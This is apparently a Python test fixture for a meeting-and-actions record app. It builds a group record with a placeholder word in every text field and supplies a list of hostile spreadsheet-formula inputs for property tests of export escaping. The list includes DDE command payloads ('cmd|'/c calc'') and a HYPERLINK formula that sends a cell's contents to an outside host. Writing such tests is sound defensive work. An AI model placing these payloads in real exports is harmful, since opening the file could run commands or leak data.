"""A record in which people typed the same words wherever they can, and words that a spreadsheet might act upon."""

from datetime import date, timedelta

from hypothesis import strategies as st

from documents import record_json
from storage import actions, audit, benchmarks, targets
from storage.actions import Due, Status
from storage.agenda import AgendaItem
from storage.attendance import Attendance
from storage.benchmarks import BenchmarkAssessment
from storage.targets import TargetValue
from tests import factories
from tests.factories import NOW, TODAY

SAID = "Qwerty"
LATER = NOW + timedelta(days=10)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\u202e", "\ufeff", "'", "''", '"', "\x00", "\x1b", "\x0b")
HOSTILE = (
    *(f"{before}{sign}1+1" for sign in SIGNS for before in BEFORE),
    '=HYPERLINK("https://elsewhere.example?x="&A1,"open")',
    "=cmd|'/c calc'!A0",
    '@SUM(1+1)*cmd|"/c calc"!A0',
    "+DDE(1)",
    "=1+1;=2+2",
    "one;=1+1",
    "one\t=1+1",
    "one\n=1+1",
    'one"\r\n=1+1',
    '","=1+1',
    "{=1+1}",
    "https://elsewhere.example/",
    "\\\\elsewhere.example\\share",
    "#N/A",
    "#REF!",
    "TRUE",
    "3.10",
    "1/2/2027",
    "_x003D_1+1",
    "_x005F_x003D_1",
    "<f>1+1</f>",
    "]]><f>1+1</f>",
    "&F &[Tab] &A",
    "PAGE \\* MERGEFORMAT",
    "🤯",
    "\ufffe\uffff",
)


def texts():
    """Return texts of any kind, half of them made to begin like a formula."""
    begun = st.tuples(st.sampled_from(BEFORE), st.sampled_from(SIGNS), st.text(max_size=30)).map("".join)
    return st.sampled_from(HOSTILE) | begun | st.text(max_size=60)


def write(session):
    """Write a group whose people typed SAID in every field that takes words; return the group."""
    group = factories.group(session, SAID, marking=SAID, themes=[SAID], agencies=[{"name": SAID, "aliases": [SAID]}])
    by = factories.member(session, group.id, SAID, agency=SAID)
    factories.member(session, group.id, SAID, agency=SAID, role="deputy", deputy_for_id=by.id, left_on=TODAY)
    owners = [{"kind": "agency", "name": SAID}]
    action = factories.action(session, group.id, SAID, theme=SAID, owners=owners, by=by, on=date(2027, 2, 5))
    factories.trained(
        session, group.id, [(SAID, 22), ("Housing", 3)], product_text=SAID, mode=SAID, trainer=SAID, venue=SAID
    )
    kept = {
        "reason": SAID,
        "papers": [{"title": SAID, "link": SAID}],
        "minutes_link": SAID,
        "minutes_approved_by": SAID,
    }
    meeting = factories.meeting(session, group.id, title=SAID, place=SAID, link=SAID, **kept)
    factories.decision(session, group.id, SAID, review_on=date(2027, 9, 2))
    target = factories.target(session, group.id, SAID, agency=SAID, unit=SAID, source=SAID)
    change = factories.change(session, group.id, LATER, by=by)
    due = Due(SAID, "DATE", date(2027, 3, 12), "day")
    actions.update(session, change, action, due=due, reason=SAID, today=LATER.date())
    told = {"status": Status.AT_RISK, "note": SAID, "evidence": SAID, "owners": owners}
    actions.update(session, change, action, today=LATER.date(), **told)
    item = {"group_id": group.id, "meeting_id": meeting.id}
    audit.add(session, change, AgendaItem(position=1, title=SAID, by_name=SAID, covered=True, carried=2, **item))
    audit.add(session, change, Attendance(member_id=by.id, answer="apologies", answered_at=LATER, **item))
    value = {"value": 61.5, "as_of_on": TODAY, "by_name": SAID, "note": SAID}
    targets.record(session, change, TargetValue(group_id=group.id, target_id=target.id, **value))
    said = {"benchmark": SAID, "level": SAID, "as_of_on": TODAY, "by_name": SAID, "note": SAID}
    benchmarks.record(session, change, BenchmarkAssessment(group_id=group.id, **said))
    return group


def record(db):
    """Return the export of that group."""
    return db.read_sync(record_json.export, db.run_sync(write), LATER.date())


def saying(value, words):
    """Return an export with other words in place of SAID."""
    if isinstance(value, dict):
        return {name: saying(each, words) for name, each in value.items()}
    if isinstance(value, list):
        return [saying(each, words) for each in value]
    return value.replace(SAID, words) if isinstance(value, str) else value
